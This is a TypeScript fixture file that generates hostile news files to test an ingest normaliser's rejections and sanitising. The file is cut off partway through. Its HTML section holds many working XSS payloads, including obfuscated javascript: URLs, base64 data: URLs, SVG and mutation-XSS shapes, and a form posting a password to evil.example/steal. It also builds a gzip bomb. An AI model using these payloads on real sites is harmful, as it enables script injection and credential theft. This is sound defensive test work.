/**
 * The hostile-input catalogue: every file is generated here, byte by byte, with the outcome it must
 * have — rejected with a specific code (the original kept in quarantine), or accepted with the
 * dangerous parts gone. Used by the normaliser-level suite (./hostile-inputs.test.ts) and, all in one
 * batch with good articles, through the local runtime (./hostile-batch.test.ts).
 *
 * A case with `knownBug` states the outcome it SHOULD have; today it has another one (see the bug
 * text). Its test is marked `todo`, so it reports without failing the suite, and starts passing the
 * day the bug is fixed.
 */
import { deflateRawSync, gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import type { RejectionCode } from '../../shared/domain/errors.js';

export interface Accepted {
  /** The main headline, exactly. */
  readonly headline?: string;
  readonly format?: string;
  /** Substrings the plain-text body must contain (proof the good part survived). */
  readonly bodyIncludes?: readonly string[];
  /**
   * Substrings the markup of the HTML body (tag names, attribute names and values, entities decoded)
   * may not contain, in any case. Text is not markup: a story may quote `<script>` as text, escaped.
   */
  readonly markupExcludes?: readonly string[];
  /** Substrings neither body may contain, as text or markup. */
  readonly bodyExcludes?: readonly string[];
  /** Substrings the whole ninjs document (as JSON) may not contain, in any case. */
  readonly documentExcludes?: readonly string[];
  /** The pubStatus the article must have (an unreadable pubStatus or embargo is indexed as withheld). */
  readonly pubStatus?: string;
  /** Fields the provenance must record as dropped (an unusable optional value, kept as `original`). */
  readonly dropped?: readonly string[];
  /** The rule that decided the character encoding (`byte-order-mark`, `valid-utf-8`, `declared:...`, `chardet`). */
  readonly encodingRule?: string | RegExp;
}

export type Expectation = { readonly rejected: RejectionCode } | { readonly accepted: Accepted };

export interface HostileCase {
  /** Unique, short; also the file name. */
  readonly id: string;
  readonly category: string;
  readonly description: string;
  /** The object key below the source folder: the extension is what a publisher would give it. */
  readonly file: string;
  readonly bytes: Uint8Array;
  readonly contentType?: string;
  readonly expect: Expectation;
  /** Set when the outcome today differs from `expect`: what goes wrong, and where. */
  readonly knownBug?: string;
  /** Not dropped into the local runtime (too slow there, or the emulator cannot store it). */
  readonly normaliserOnly?: boolean;
}

// --- Building blocks ---------------------------------------------------------------------------------

const PARAGRAPHS = [
  'The finance minister said on Tuesday that the new budget would raise spending on schools and hospitals by ten percent over the next three years.',
  'Opposition leaders called the plan unrealistic and said it would add to the national debt, promising to fight it in parliament next month.',
  'Economists were divided, with some welcoming the investment in public services and others warning about the cost of higher borrowing.',
  'The vote on the budget is expected before the end of the year, after a debate in both chambers of parliament.',
];

/** A short, ordinary news text: what the good part of every hostile file carries. */
export const STORY = PARAGRAPHS.join('\n\n');
export const HEADLINE = 'Budget raises spending on schools and hospitals';
const FIRST_WORDS = 'The finance minister said on Tuesday';

const utf8 = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'));
const bytes = (...values: readonly number[]) => Uint8Array.from(values);
const concat = (...parts: readonly Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

/** Deterministic bytes (mulberry32), so every run builds the same files. */
function seededBytes(length: number, seed: number): Uint8Array {
  let state = seed >>> 0;
  const out = new Uint8Array(length);
  for (let index = 0; index < length; index++) {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out[index] = ((t ^ (t >>> 14)) >>> 0) & 0xff;
  }
  return out;
}

const htmlParagraphs = () => PARAGRAPHS.map((paragraph) => `<p>${paragraph}</p>`).join('\n');

/** A news page whose article carries `payload` between legitimate paragraphs. */
export function page(payload: string, options: { head?: string; title?: string } = {}): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${options.title ?? HEADLINE}</title>${options.head ?? ''}</head>
<body><article><h1>${HEADLINE}</h1>
<p>${PARAGRAPHS[0]}</p>
${payload}
<p>${PARAGRAPHS[1]}</p><p>${PARAGRAPHS[2]}</p><p>${PARAGRAPHS[3]}</p>
</article></body></html>`;
}

function nitf(bodyContent: string, prolog = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>${prolog}
<nitf><head><title>${HEADLINE}</title></head>
<body><body.head><hedline><hl1>${HEADLINE}</hl1></hedline></body.head>
<body.content>${bodyContent}</body.content></body></nitf>`;
}

/** Each generated ninjs and NewsML document its own identifier: the same id is the same article. */
let documents = 0;

function newsml(inline: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:newsml:example.com:20240101:budget-${++documents}" version="1" standard="NewsML-G2" standardversion="2.29">
<itemMeta><itemClass qcode="ninat:text"/><provider qcode="nprov:example"/><versionCreated>2024-01-01T10:00:00Z</versionCreated><pubStatus qcode="stat:usable"/></itemMeta>
<contentMeta><headline>${HEADLINE}</headline><language tag="en"/></contentMeta>
<contentSet>${inline}</contentSet></newsItem>`;
}

function ninjs(fields: Record<string, unknown>): string {
  return JSON.stringify({
    uri: `urn:example:budget-${++documents}`,
    headlines: [{ role: 'main', value: HEADLINE }],
    bodies: [{ role: 'main', contentType: 'text/plain', value: STORY }],
    language: 'en',
    ...fields,
  });
}

const markdown = (frontMatter: string, body = STORY) => `---\n${frontMatter}\n---\n\n${body}\n`;

/** A minimal but real zip archive (one stored file), as a publisher's "story.zip renamed .txt" would be. */
function zipOf(name: string, content: string): Uint8Array {
  const data = Buffer.from(content);
  const compressed = deflateRawSync(data);
  const fileName = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + compressed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return concat(local, fileName, compressed, central, fileName, end);
}

function crc32(data: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** Accepted with the story intact. */
const story = (extra: Accepted = {}): Expectation => ({
  accepted: { headline: HEADLINE, bodyIncludes: [FIRST_WORDS], ...extra },
});
const rejected = (code: RejectionCode): Expectation => ({ rejected: code });

/** What no markup may contain after sanitising: script, handlers, dangerous schemes. */
const SCRIPTY = ['alert(', 'javascript:', 'vbscript:', 'onerror', 'onload', 'onclick', '<script', '<iframe'];

// --- The catalogue ------------------------------------------------------------------------------------

export function hostileCases(): HostileCase[] {
  documents = 0;
  const cases: HostileCase[] = [];
  const add = (category: string, entry: Omit<HostileCase, 'category'>) => cases.push({ category, ...entry });

  // Empty and whitespace-only
  const empty = (
    id: string,
    file: string,
    description: string,
    content: Uint8Array,
    expect = rejected('EMPTY'),
  ) => add('empty', { id, file, description, bytes: content, expect });
  empty('empty', 'empty.txt', 'zero bytes', new Uint8Array());
  empty('whitespace', 'whitespace.txt', 'spaces, tabs, CR LF', utf8(' \t\r\n  \n\t '));
  empty(
    'unicode-spaces',
    'unicode-spaces.md',
    'no-break, em and ideographic spaces',
    utf8('\u00a0\u2003\u3000\n\u00a0'),
  );
  empty('bom-only', 'bom-only.txt', 'a UTF-8 byte order mark and nothing else', bytes(0xef, 0xbb, 0xbf));
  empty(
    'zero-width-only',
    'zero-width.txt',
    'zero-width spaces, joiners, word joiner, soft hyphen and a BOM between line breaks',
    utf8('\u200b\n\u200c\u200d\u2060\u00ad\n\ufeff\u200b'),
  );
  empty(
    'controls-only',
    'controls-only.txt',
    'wire framing characters only (SOH STX ETX EOT)',
    bytes(1, 2, 3, 4),
  );
  empty('empty-json', 'empty.json', 'an empty JSON object', utf8('{}'), rejected('NO_HEADLINE'));
  empty(
    'empty-html',
    'empty.html',
    'an HTML page with nothing in it',
    utf8('<!doctype html><html><head></head><body></body></html>'),
    rejected('NO_ARTICLE'),
  );
  empty(
    'empty-nitf',
    'empty.xml',
    'an NITF document with no body',
    utf8('<nitf><head><title>T</title></head></nitf>'),
    rejected('NO_BODY'),
  );

  // Binary files with text extensions
  // Binary files with text extensions. Formats known by their magic number (images, PDF, Office,
  // archives) are UNSUPPORTED_FORMAT, named; other binary data is BINARY by its share of controls.
  const binary = (
    id: string,
    file: string,
    description: string,
    content: Uint8Array,
    expect = rejected('BINARY'),
  ) => add('binary', { id, file, description, bytes: content, expect });
  binary(
    'elf',
    'story.txt',
    'an ELF executable named .txt',
    concat(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0), seededBytes(512, 1)),
  );
  binary(
    'png',
    'story.html',
    'a PNG image named .html',
    concat(
      bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d),
      utf8('IHDR'),
      seededBytes(512, 2),
    ),
    rejected('UNSUPPORTED_FORMAT'),
  );
  binary(
    'jpeg',
    'story.md',
    'a JPEG image named .md',
    concat(bytes(0xff, 0xd8, 0xff, 0xe0, 0, 0x10), utf8('JFIF'), bytes(0), seededBytes(512, 3)),
    rejected('UNSUPPORTED_FORMAT'),
  );
  binary(
    'pdf',
    'story.json',
    'a PDF named .json (text header, binary streams)',
    concat(
      utf8('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 512 /Filter /FlateDecode >>\nstream\n'),
      deflateRawSync(seededBytes(2048, 4)),
      utf8('\nendstream\nendobj\n'),
    ),
    rejected('UNSUPPORTED_FORMAT'),
  );
  binary(
    'pdf-text-only',
    'pdf-text-only.txt',
    'a PDF whose only content stream is uncompressed text (read as text it would publish "%PDF-1.4")',
    utf8(
      `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n4 0 obj\n<< /Length 120 >>\nstream\nBT /F1 12 Tf 72 720 Td (${HEADLINE}) Tj ET\nBT 72 700 Td (${PARAGRAPHS[0]}) Tj ET\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    ),
    rejected('UNSUPPORTED_FORMAT'),
  );
  binary(
    'ole2-doc',
    'ole2-doc.txt',
    'a Word 97-2003 document (OLE2 compound file) named .txt',
    concat(bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), seededBytes(504, 7)),
    rejected('UNSUPPORTED_FORMAT'),
  );
  binary(
    'docx',
    'docx.md',
    'a Word document (.docx: a zip package with word/document.xml) named .md',
    concat(
      bytes(
        0x50,
        0x4b,
        0x03,
        0x04,
        0x14,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        17,
        0,
        0,
        0,
      ),
      utf8('word/document.xml'),
      utf8(`<w:document><w:body><w:p><w:r><w:t>${HEADLINE}</w:t></w:r></w:p></w:body></w:document>`),
    ),
    rejected('UNSUPPORTED_FORMAT'),
  );
  binary(
    'sqlite',
    'story.xml',
    'an SQLite database named .xml',
    concat(utf8('SQLite format 3'), bytes(0), seededBytes(1024, 5)),
  );
  binary('random', 'story.nitf.xml', 'random bytes', seededBytes(4096, 6));

  // NUL bytes
  add('nul', {
    id: 'nul-text',
    file: 'nul.txt',
    description: 'a NUL byte in the middle of a text story',
    bytes: utf8(`${HEADLINE}\n\n${PARAGRAPHS[0]}\u0000${PARAGRAPHS[1]}`),
    expect: story({ documentExcludes: ['\\u0000'] }),
  });
  add('nul', {
    id: 'nul-latin1',
    file: 'nul-latin1.xml',
    description: 'a NUL byte in a document declared ISO-8859-1: removed, the story read',
    bytes: concat(
      utf8(
        `<?xml version="1.0" encoding="ISO-8859-1"?><nitf><body><body.head><hedline><hl1>${HEADLINE}</hl1></hedline></body.head><body.content><p>${PARAGRAPHS[0]}`,
      ),
      bytes(0),
      utf8(`</p></body.content></body></nitf>`),
    ),
    expect: story({ documentExcludes: ['\\u0000'] }),
  });
  add('nul', {
    id: 'nul-many',
    file: 'nul-many.txt',
    description: 'a story with a NUL after every word (more than 2% NUL: binary)',
    bytes: utf8(`${HEADLINE}\n\n${(PARAGRAPHS[0] ?? '').replace(/ /g, ' \u0000')}`),
    expect: rejected('BINARY'),
  });
  add('nul', {
    id: 'nul-late-html',
    file: 'nul-late.html',
    description: 'a NUL byte after the first 8 KiB of an HTML page',
    bytes: utf8(
      page(
        `${'<p>Background paragraph with nothing to note in it at all.</p>\n'.repeat(160)}<p>before\u0000after</p>`,
      ),
    ),
    expect: story({ documentExcludes: ['\\u0000'] }),
  });

  // Encoding traps
  const encoded = (
    id: string,
    file: string,
    description: string,
    content: Uint8Array,
    expect: Expectation,
    extra: Partial<HostileCase> = {},
  ) => add('encoding', { id, file, description, bytes: content, expect, ...extra });
  encoded(
    'utf8-mostly-valid',
    'mostly-valid.txt',
    'UTF-8 with accents and one stray Latin-1 byte: read as UTF-8, the bad byte replaced, accents kept',
    concat(
      utf8(`${HEADLINE}\n\nThe minister met Zürich and Genève officials; the café `),
      bytes(0xe9),
      utf8(` was closed.\n\n${STORY}`),
    ),
    story({ encodingRule: 'mostly-valid-utf-8', bodyIncludes: ['Zürich and Genève', FIRST_WORDS] }),
  );
  encoded(
    'bom-utf8',
    'bom.txt',
    'UTF-8 with a byte order mark',
    concat(bytes(0xef, 0xbb, 0xbf), utf8(`${HEADLINE}\n\n${STORY}`)),
    story({ encodingRule: 'byte-order-mark' }),
  );
  encoded(
    'utf16le-bom',
    'utf16le.txt',
    'UTF-16 little-endian with BOM',
    concat(bytes(0xff, 0xfe), new Uint8Array(Buffer.from(`${HEADLINE}\n\n${STORY}`, 'utf16le'))),
    story({ encodingRule: 'byte-order-mark' }),
  );
  encoded(
    'utf16be-bom',
    'utf16be.txt',
    'UTF-16 big-endian with BOM',
    concat(bytes(0xfe, 0xff), new Uint8Array(iconv.encode(`${HEADLINE}\n\n${STORY}`, 'utf16-be'))),
    story({ encodingRule: 'byte-order-mark' }),
  );
  encoded(
    'utf16le-no-bom',
    'utf16-nobom.txt',
    'UTF-16 without BOM: every other byte is NUL',
    new Uint8Array(Buffer.from(`${HEADLINE}\n\n${STORY}`, 'utf16le')),
    rejected('BINARY'),
  );
  encoded(
    'windows-1252',
    'cp1252.txt',
    'Windows-1252 curly quotes, dash and euro sign (bytes 0x80-0x9F)',
    new Uint8Array(
      iconv.encode(
        `“Budget” raises spending — by €5bn\n\n${STORY}\n\nCafé owners welcomed the “good news”.`,
        'windows-1252',
      ),
    ),
    {
      accepted: {
        headline: '“Budget” raises spending — by €5bn',
        bodyIncludes: ['Café owners welcomed the “good news”'],
        bodyExcludes: ['\u0093', '\u0094', '\u0080'],
        encodingRule: 'chardet',
      },
    },
  );
  encoded(
    'latin1-meta',
    'latin1.html',
    'an HTML page declaring iso-8859-1 in a meta tag, with 0x93/0x94 quotes',
    concat(
      utf8('<!doctype html><html lang="en"><head><meta charset="iso-8859-1"><title>Caf'),
      bytes(0xe9),
      utf8(` budget</title></head><body><article><p>${PARAGRAPHS[0]} `),
      bytes(0x93),
      utf8('quoted'),
      bytes(0x94),
      utf8(` caf`),
      bytes(0xe9),
      utf8(`.</p><p>${PARAGRAPHS[1]}</p><p>${PARAGRAPHS[2]}</p></article></body></html>`),
    ),
    {
      accepted: {
        headline: 'Café budget',
        bodyIncludes: ['“quoted” café'],
        encodingRule: /^declared:iso-8859-1/,
      },
    },
  );
  encoded(
    'content-type-charset',
    'content-type.txt',
    'Windows-1252 named only by the Content-Type header',
    new Uint8Array(iconv.encode(`Café budget\n\n${STORY} Naïve “quotes”.`, 'windows-1252')),
    {
      accepted: {
        headline: 'Café budget',
        bodyIncludes: ['Naïve “quotes”'],
        encodingRule: /^declared:windows-1252/,
      },
    },
    { contentType: 'text/plain; charset=windows-1252' },
  );
  encoded(
    'invalid-utf8',
    'invalid-utf8.txt',
    'UTF-8 text with invalid sequences (a lone continuation byte, 0xFF 0xFE)',
    concat(utf8(`${HEADLINE}\n\n${STORY} `), bytes(0xc3, 0x28, 0xa0, 0xa1, 0xff, 0xfe)),
    story({ encodingRule: 'chardet' }),
  );
  encoded(
    'overlong-utf8',
    'overlong.txt',
    'an overlong UTF-8 encoding of "/" (C0 AF), the classic path-traversal disguise',
    concat(utf8(`${HEADLINE}\n\n${STORY} ..`), bytes(0xc0, 0xaf), utf8('etc')),
    rejected('ENCODING'),
  );
  encoded(
    'utf8-surrogate',
    'surrogate.txt',
    'a UTF-16 surrogate encoded in UTF-8 (ED A0 80)',
    concat(utf8(`${HEADLINE}\n\n${STORY} `), bytes(0xed, 0xa0, 0x80)),
    rejected('ENCODING'),
  );
  encoded(
    'bom-then-invalid',
    'bom-invalid.txt',
    'a UTF-8 BOM followed by bytes that are not UTF-8',
    concat(bytes(0xef, 0xbb, 0xbf), utf8(HEADLINE), bytes(0xff, 0xfe, 0xfd)),
    rejected('ENCODING'),
  );
  encoded(
    'nfd',
    'nfd.md',
    'decomposed accents (NFD): e + U+0301',
    utf8(`# Cafe\u0301 owners back the budget\n\n${STORY}\n\nThe cafe\u0301 owners said so.`),
    {
      accepted: {
        headline: 'Café owners back the budget',
        bodyIncludes: ['The café owners'],
        bodyExcludes: ['e\u0301'],
      },
    },
  );
  encoded(
    'declared-utf8-is-latin1',
    'mislabelled.xml',
    'XML declared UTF-8 whose bytes are Latin-1',
    new Uint8Array(
      iconv.encode(nitf(`<p>${PARAGRAPHS[0]} Café crème.</p><p>${PARAGRAPHS[1]}</p>`), 'latin1'),
    ),
    {
      accepted: { headline: HEADLINE, bodyIncludes: ['Café crème'], encodingRule: /chardet/ },
    },
  );
  encoded(
    'utf7-declared',
    'utf7.html',
    'a page declaring UTF-7, whose +ADw-script+AD4- decodes to <script>',
    utf8(
      page('<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- +ADw-img src=x onerror=alert(2)+AD4-</p>', {
        head: '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
      }).replace('<meta charset="utf-8">', ''),
    ),
    {
      accepted: { bodyIncludes: [FIRST_WORDS], markupExcludes: SCRIPTY },
    },
  );

  // A single enormous line
  add('long-line', {
    id: 'one-line-text',
    file: 'one-line.txt',
    description: 'one 1 MiB line, no line break',
    bytes: utf8('word '.repeat(200_000).trim()),
    expect: rejected('NO_HEADLINE'),
  });
  add('long-line', {
    id: 'one-line-json',
    file: 'one-line.json',
    description: 'a 2 MiB ninjs document on one line (one huge body paragraph)',
    bytes: utf8(
      ninjs({ bodies: [{ contentType: 'text/plain', value: `${PARAGRAPHS[0]} `.repeat(14_000) }] }),
    ),
    expect: story(),
    normaliserOnly: true,
  });
  add('long-line', {
    id: 'tab-run',
    file: 'tabs.txt',
    description: 'a line of 50,000 tabs before its text (a /\\s+$/ trim is quadratic on it)',
    bytes: utf8(`${HEADLINE}\n\n${STORY}\n\n${'\t'.repeat(50_000)}end`),
    expect: story(),
  });
  add('long-line', {
    id: 'iptc7901-spaces',
    file: 'dpa-spaces.txt',
    description: 'an IPTC 7901 header line with 25,000 inner spaces',
    bytes: utf8(
      `eca00075 3 i 510 dpa 1003\n/politics/\nBudget${' '.repeat(25_000)}raises spending =\n\n${STORY}\n`,
    ),
    expect: { accepted: { bodyIncludes: [FIRST_WORDS] } },
  });

  // Huge files, compression and archives
  add('size', {
    id: 'over-limit',
    file: 'huge.txt',
    description: 'one byte over the 5 MiB ingest limit',
    bytes: utf8(`${HEADLINE}\n\n${'x'.repeat(5 * 1024 * 1024 - HEADLINE.length - 1)}`),
    expect: rejected('TOO_LARGE'),
  });
  add('size', {
    id: 'gzip-bomb',
    file: 'bomb.txt',
    description: 'gzip of 64 MiB of spaces (64 KiB stored): expands past the 20 MiB cap',
    bytes: new Uint8Array(gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 })),
    expect: rejected('TOO_LARGE'),
  });
  add('size', {
    id: 'gzip-in-gzip',
    file: 'double.txt.gz',
    description: 'gzip inside gzip (a bomb layer by layer)',
    bytes: new Uint8Array(gzipSync(gzipSync(Buffer.from(`${HEADLINE}\n\n${STORY}`)))),
    expect: rejected('UNSUPPORTED_FORMAT'),
  });
  add('size', {
    id: 'gzip-truncated',
    file: 'truncated.txt.gz',
    description: 'a gzip stream cut short',
    bytes: new Uint8Array(gzipSync(Buffer.from(`${HEADLINE}\n\n${STORY}`)).subarray(0, 40)),
    expect: rejected('MALFORMED'),
  });
  add('size', {
    id: 'gzip-ok',
    file: 'compressed.txt',
    description: 'a gzip-compressed story (legitimate)',
    bytes: new Uint8Array(gzipSync(Buffer.from(`${HEADLINE}\n\n${STORY}`))),
    expect: story(),
  });
  add('size', {
    id: 'zip',
    file: 'story.zip',
    description: 'a zip archive holding a story',
    bytes: zipOf('story.txt', `${HEADLINE}\n\n${STORY}`),
    expect: rejected('UNSUPPORTED_FORMAT'),
  });
  add('size', {
    id: 'zip-as-txt',
    file: 'archive.txt',
    description: 'a zip archive renamed .txt',
    bytes: zipOf('a.html', page('')),
    expect: rejected('UNSUPPORTED_FORMAT'),
  });

  // Hostile HTML: accepted, with everything executable gone
  const xss = (id: string, description: string, payload: string, head = '') =>
    add('html', {
      id,
      file: `${id}.html`,
      description,
      bytes: utf8(page(payload, { head })),
      expect: story({ format: 'html', markupExcludes: SCRIPTY }),
    });
  xss(
    'html-script',
    'script elements, inline, external, with odd case and a JSON type',
    '<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><script type="text/plain">alert(2)</script>',
  );
  xss(
    'html-handlers',
    'event handlers on allowed elements',
    '<p onclick="alert(1)" onmouseover=alert(2)>Click</p><img src="https://cdn.example/a.jpg" onerror="alert(3)"><a href="https://example.com/" onfocus=alert(4) autofocus>x</a><details open ontoggle=alert(5)>d</details>',
  );
  xss(
    'html-js-urls',
    'javascript: URLs, obfuscated with case, entities, whitespace and control characters',
    '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(2)">b</a><a href="&#106;avascript:alert(3)">c</a><a href="&#x6A;avascript&colon;alert(4)">d</a><a href=" javascript:alert(5)">e</a><a href="java\tscript:alert(6)">f</a><a href="\u0001javascript:alert(7)">g</a><img src="javascript:alert(8)"><a href="vbscript:msgbox(9)">h</a>',
  );
  xss(
    'html-data-urls',
    'data: URLs in links and images',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><a href="data:text/html,<script>alert(2)</script>">b</a>',
  );
  xss(
    'html-iframes',
    'iframes, frames, objects, embeds, applets',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="evil.swf"><param name=x value=y></object><embed src="evil.swf"><applet code=x></applet><frameset><frame src="javascript:alert(2)"></frameset>',
  );
  xss(
    'html-svg',
    'inline SVG and MathML with scripts, handlers and namespace confusion',
    '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>t</text></a><animate attributeName=href to=javascript:alert(4) /><foreignObject><img src=x onerror=alert(5)></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>',
  );
  xss(
    'html-css',
    'CSS expressions, javascript: in url(), style elements and imports',
    '<div style="width: expression(alert(1))">w</div><p style="background:url(javascript:alert(2))">p</p><style>@import "https://evil.example/x.css"; body{background:url("javascript:alert(3)")}</style><link rel=stylesheet href="javascript:alert(4)"><span style="behavior:url(x.htc)">s</span>',
  );
  xss(
    'html-meta-refresh',
    'meta refresh and base href, in head and body',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:alert(2)//">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  );
  xss(
    'html-forms',
    'forms, inputs, buttons with formaction, textareas',
    '<form action="https://evil.example/steal" method=post><input name=password type=password value=x><button formaction="javascript:alert(1)">go</button><textarea>t</textarea><select><option>o</option></select><isindex action=javascript:alert(2)></form>',
  );
  xss(
    'html-mxss',
    'mutation-XSS shapes: noscript, comments, CDATA, template, broken attributes',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><!--<img src=x onerror=alert(2)>--><![CDATA[<img src=x onerror=alert(3)>]]><template><img src=x onerror=alert(4)></template><p title="a"onmouseover=alert(5)>t</p><img src=`x`onerror=alert(6)><xmp><img src=x onerror=alert(7)></xmp>',
  );
  add('html', {
    id: 'html-title-markup',
    file: 'title-markup.html',
    description:
      'a <title> and <h1> whose text is escaped markup (a handler partners would run if they render the headline as HTML)',
    bytes: utf8(
      page('', { title: `${HEADLINE} &lt;img src=x onerror=alert(1)&gt;` }).replace(
        `<h1>${HEADLINE}</h1>`,
        `<h1>${HEADLINE} &lt;img src=x onerror=alert(1)&gt;</h1>`,
      ),
    ),
    expect: story({ documentExcludes: ['onerror', '<img'] }),
  });
  add('html', {
    id: 'html-relative-urls',
    file: 'relative.html',
    description:
      "relative link and image URLs on a page that states no URL of its own (they would resolve against the partner's site)",
    bytes: utf8(
      page('<p><img src="/account/logout" alt="x"> <a href="/admin/delete?all=1">the details</a></p>'),
    ),
    expect: story({ markupExcludes: ['/account/logout', '/admin/delete'] }),
  });
  add('html', {
    id: 'html-nav-only',
    file: 'nav.html',
    description: 'a page of navigation links, no article',
    bytes: utf8(
      `<!doctype html><html><head><title>Home</title></head><body><nav>${Array.from({ length: 40 }, (_, i) => `<a href="/section/${i}">Section number ${i} of the site</a>`).join(' ')}</nav></body></html>`,
    ),
    expect: rejected('NO_ARTICLE'),
  });
  add('html', {
    id: 'html-spa-shell',
    file: 'shell.html',
    description: 'a script-rendered shell: an empty root and a bundle',
    bytes: utf8(
      '<!doctype html><html><head><title>News</title><script src="/app.js"></script></head><body><div id="root"></div><noscript>You need to enable JavaScript to run this app.</noscript></body></html>',
    ),
    expect: rejected('NO_ARTICLE'),
  });
  add('html', {
    id: 'html-cookie-wall',
    file: 'consent.html',
    description: 'a cookie wall instead of the article',
    bytes: utf8(
      '<!doctype html><html><head><title>Before you continue</title></head><body><div class="consent"><p>We use cookies to improve your experience.</p><button>Accept all</button></div></body></html>',
    ),
    expect: rejected('NO_ARTICLE'),
  });
  add('html', {
    id: 'html-deep',
    file: 'deep.html',
    description: '5,000 nested <div> elements',
    bytes: utf8(
      `<!doctype html><html><body>${'<div>'.repeat(5000)}${STORY}${'</div>'.repeat(5000)}</body></html>`,
    ),
    expect: rejected('TOO_DEEP'),
  });
  add('html', {
    id: 'html-unclosed',
    file: 'unclosed.html',
    description: '2,000 <span> opened and never closed',
    bytes: utf8(`<!doctype html><html><body><p>${'<span>'.repeat(2000)}${STORY}</p></body></html>`),
    expect: rejected('TOO_DEEP'),
  });
  add('html', {
    id: 'html-no-title',
    file: 'untitled.html',
    description: 'an article with no title, og:title or JSON-LD headline',
    bytes: utf8(`<!doctype html><html><body><article>${htmlParagraphs()}</article></body></html>`),
    expect: rejected('NO_HEADLINE'),
  });
  add('html', {
    id: 'html-many-paragraphs',
    file: 'paragraph-flood.html',
    description: '1,000,000 empty <p> in 2.9 MB (HTML closes each one, so nesting limits never see them)',
    bytes: utf8(
      `<!doctype html><html><head><title>T</title></head><body>${'<p>'.repeat(1_000_000)}${STORY}</body></html>`,
    ),
    expect: rejected('TOO_LARGE'),
  });
  add('html', {
    id: 'html-truncated',
    file: 'truncated.html',
    description: 'a page cut off inside its <html> start tag (an interrupted upload; found by the fuzzer)',
    bytes: utf8('<!doctype html>\n<html lang="en" '),
    expect: rejected('MALFORMED'),
  });

  // JSON
  const json = (
    id: string,
    description: string,
    text: string,
    expect: Expectation,
    extra: Partial<HostileCase> = {},
  ) => add('json', { id, file: `${id}.json`, description, bytes: utf8(text), expect, ...extra });
  json('json-array', 'an array of numbers', '[1, 2, 3]', rejected('NO_ARTICLE'));
  json(
    'json-array-one-article',
    'an array holding one article (a feed export, not an article)',
    `[${ninjs({})}]`,
    rejected('NO_ARTICLE'),
  );
  json(
    'json-two-articles',
    'an array of two articles',
    `[${ninjs({})}, ${ninjs({ uri: 'urn:example:2' })}]`,
    rejected('NO_ARTICLE'),
  );
  json(
    'json-string',
    'a JSON string (detected as a one-line text)',
    '"Budget raises spending"',
    rejected('NO_BODY'),
  );
  json('json-number', 'a JSON number', '42', rejected('NO_BODY'));
  json('json-null', 'JSON null', 'null', rejected('NO_BODY'));
  json(
    'json-invalid',
    'cut off in the middle',
    `{"headline": "${HEADLINE}", "body": "${PARAGRAPHS[0]}`,
    rejected('MALFORMED'),
  );
  json(
    'json-trailing-comma',
    'a trailing comma',
    `{"headline": "${HEADLINE}", "body": "${PARAGRAPHS[0]}",}`,
    rejected('MALFORMED'),
  );
  json(
    'json-nan',
    'NaN and a comment, which JSON does not have',
    `{"headline": "${HEADLINE}", /* c */ "urgency": NaN}`,
    rejected('MALFORMED'),
  );
  json(
    'json-garbage-after',
    'a valid object followed by garbage',
    `${ninjs({})} trailing`,
    rejected('MALFORMED'),
  );
  json(
    'json-deep-array',
    '100,000 nested arrays',
    `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    rejected('TOO_DEEP'),
  );
  json(
